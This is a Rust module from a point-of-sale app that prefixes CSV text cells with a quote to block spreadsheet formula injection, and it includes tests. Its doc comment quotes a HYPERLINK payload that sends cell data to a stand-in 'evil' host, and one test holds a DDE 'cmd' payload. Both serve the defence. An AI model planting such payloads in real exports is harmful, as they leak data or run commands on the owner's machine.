//! Text cells of the CSV files SnapKasir writes, made safe to open in a spreadsheet.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and a tab or a
//! carriage return (or a line feed) before one of them is skipped by some importers, so a
//! product name like `=HYPERLINK("http://evil/?"&A1, "Klik")` typed on a till, or a terminal code
//! written into a journal by a stolen till, would run in the owner's spreadsheet (CSV injection,
//! OWASP). Every CSV writer passes each text cell through [`neutralise`], which puts a `'` in
//! front of such a cell as OWASP recommends; spreadsheets show the text and hide the `'`.
//!
//! A cell that already starts with `'` gets one more, so that [`restore`] (which the till's CSV
//! import applies to every cell) removes exactly one leading `'` and gives back what was
//! exported: a `-5` SKU or a name starting with `'` round-trips. The cost: a hand-written import
//! file whose cell starts with `'` loses that `'`, which is what a spreadsheet would show anyway.
//!
//! Numbers are not text cells: amounts and quantities that our code formats from a decimal
//! (`-1500.50`) are written as they are, so a negative total stays a number in the spreadsheet.
//! A decimal can never carry a formula (it is only digits, one `-` and one `.`), so leaving it
//! alone is safe.

use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula when it starts with one.
pub const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// The prefix that makes a spreadsheet read a cell as text.
pub const TEXT_PREFIX: char = '\'';

/// `cell` made safe to open in a spreadsheet: prefixed with `'` when it starts with a formula
/// character (or with `'` itself, so that [`restore`] can undo it).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) || cell.starts_with(TEXT_PREFIX) {
        Cow::Owned(format!("{TEXT_PREFIX}{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// What [`neutralise`] was given: one leading `'` removed.
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix(TEXT_PREFIX).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formula_cells_are_prefixed() {
        for evil in [
            "=1+2",
            "+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "\n=1",
        ] {
            let safe = neutralise(evil);
            assert_eq!(safe, format!("'{evil}"));
            assert_eq!(restore(&safe), evil);
        }
    }

    #[test]
    fn plain_cells_are_left_alone() {
        for plain in ["Kopi Susu", "SKU-1", "", "12500", "A=B", " =x"] {
            assert!(matches!(neutralise(plain), Cow::Borrowed(_)), "{plain}");
            assert_eq!(restore(plain), plain);
        }
    }

    #[test]
    fn a_leading_quote_round_trips() {
        assert_eq!(neutralise("'quoted"), "''quoted");
        assert_eq!(restore("''quoted"), "'quoted");
        assert_eq!(restore(&neutralise("'=1")), "'=1");
    }

    proptest! {
        #[test]
        fn restore_undoes_neutralise(s in ".*") {
            let safe = neutralise(&s);
            prop_assert_eq!(restore(&safe), s.as_str());
        }

        #[test]
        fn neutralised_cells_never_start_a_formula(s in ".*") {
            prop_assert!(!neutralise(&s).starts_with(FORMULA_STARTS));
        }
    }
}
